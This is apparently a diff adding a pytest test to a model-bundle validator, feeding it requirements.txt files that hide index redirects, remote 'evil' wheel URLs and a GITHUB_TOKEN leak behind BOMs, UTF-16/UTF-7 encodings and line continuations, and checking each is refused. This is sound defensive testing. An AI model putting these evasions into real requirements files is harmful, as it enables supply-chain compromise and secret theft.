@@ -235,6 +235,25 @@ def test_requirements_that_leave_the_bundle_or_the_index_are_refused_with_their_
         and fragment in errors[0], errors
 
 
+@pytest.mark.parametrize("data", [
+    b"\xef\xbb\xbf--index-url https://pypi.example.invalid/simple\n",  # pip drops the BOM, then obeys
+    "--index-url https://pypi.example.invalid/simple\n".encode("utf-16"),
+    b"# -*- coding: utf-7 -*-\n+AC0ALQ-index-url https://pypi.example.invalid/simple\n",
+    b"numpy\nevil @ htt\\\nps://example.invalid/evil-1.0.whl\n",  # pip joins continuations with no space
+    b"htt\\\nps://example.invalid/evil-1.0.whl\n",
+    b"numpy==1.$\\\n{GITHUB_TOKEN}\n",  # pip expands ${GITHUB_TOKEN} and prints it in its error
+])
+def test_requirements_are_read_the_way_pip_reads_them(tmp_path, data):
+    """pip decodes a BOM or a PEP 263 coding line and joins `\\` continuations with no space; a check
+    reading the file otherwise saw a harmless package name where pip saw an index or a URL."""
+    bundle = make_bundle(tmp_path / "b")
+    toml = (bundle / "berth.toml").read_text().replace("[model]\n", '[model]\nrequirements = "requirements.txt"\n')
+    (bundle / "berth.toml").write_text(toml)
+    (bundle / "requirements.txt").write_bytes(data)
+    errors = errors_of(bundle)
+    assert len(errors) == 1 and errors[0].startswith("requirements.txt:"), errors
+
+
 def test_ordinary_requirements_and_files_of_the_bundle_pass(tmp_path):
     bundle = make_bundle(tmp_path / "b")
     toml = (bundle / "berth.toml").read_text().replace("[model]\n", '[model]\nrequirements = "requirements.txt"\n')
